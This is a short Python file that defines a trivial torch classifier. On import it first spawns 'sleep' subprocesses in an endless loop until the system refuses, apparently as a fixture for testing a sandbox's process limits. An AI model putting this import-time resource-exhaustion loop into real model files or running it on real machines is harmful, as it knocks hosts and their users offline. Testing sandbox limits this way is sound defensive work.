"""Starts programs until it may not."""

import subprocess

import torch

started = []
while True:
    started.append(subprocess.Popen(["/usr/bin/sleep", "600"]))


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
